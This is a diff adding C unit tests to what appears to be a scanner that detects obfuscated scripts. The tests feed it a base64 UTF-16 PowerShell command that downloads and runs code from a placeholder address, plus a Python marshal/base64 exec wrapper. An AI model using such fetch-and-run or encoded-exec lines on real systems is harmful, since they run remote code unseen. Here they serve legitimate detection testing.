@@ -246,3 +246,48 @@ TEST(utf16_of_either_order)
     look(STR("\xff\xfe\x00\xd8\x41\x00\x42\x00")); /* half a pair */
     CHECK(!facts_has(&facts, F_UNWRAP_CHAINS));
 }
+
+/* Texts of two bytes a letter: what PowerShell is given, and those of programs of .NET. */
+TEST(wide_texts)
+{
+    static const char INNER_POWER[] = "IEX (iwr http://192.0.2.1/davy-test-imitation).Content";
+    _cleanup_(strbuf_done) struct strbuf wide = {}, b = {};
+    for (size_t i = 0; INNER_POWER[i]; i++) {
+        strbuf_addc(&wide, INNER_POWER[i]);
+        strbuf_addc(&wide, 0);
+    }
+    strbuf_adds(&b, "#!/bin/sh\npwsh -EncodedCommand ");
+    encode(&b, strbuf_str(&wide));
+    look(strbuf_str(&b));
+    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64>utf16)");
+    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/davy-test-imitation)");
+    CHECK(flag(F_SCRIPT_DECODE_RUN) && flag(F_SCRIPT_DOWNLOAD_RUN));
+
+    static const char *const MARKS[] = {"BSJB", "XXXX"};
+    for (size_t k = 0; k < ARRAY_SIZE(MARKS); k++) {
+        strbuf_clear(&b);
+        strbuf_add(&b, str_n("\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0", 16));
+        strbuf_adds(&b, MARKS[k]);
+        strbuf_add(&b, str_n("\0\7", 2));
+        strbuf_add(&b, strbuf_str(&wide));
+        strbuf_add(&b, str_n("\1a\0b\0\1\0\0\0", 9));
+        look(strbuf_str(&b));
+        CHECK_CSTR(list(F_UNWRAP_CHAINS), k ? "<NA>" : "(utf16)");
+    }
+}
+
+TEST(bytecode_in_base64)
+{
+    _cleanup_(strbuf_done) struct strbuf code = {}, b = {};
+    strbuf_add(&code, str_n("\xe3\0\0\0\0\0\0\0\0\0\0\0\0\3\0\0\0\x40\0\0\0\xf3", 22));
+    for (unsigned i = 0; i < 80; i++)
+        strbuf_addc(&code, (char)(i * 37 + 129));
+    for (unsigned k = 0; k < 2; k++) {
+        strbuf_clear(&b);
+        strbuf_adds(&b, k ? "import base64\nx = base64.b64decode('" : "import marshal, base64\nexec(marshal.loads(base64.b64decode('");
+        encode(&b, strbuf_str(&code));
+        strbuf_adds(&b, k ? "')\n" : "')))\n");
+        look(strbuf_str(&b));
+        CHECK_INT(strstr(list(F_UNWRAP_CHAINS), "base64>marshal") != NULL, !k);
+    }
+}
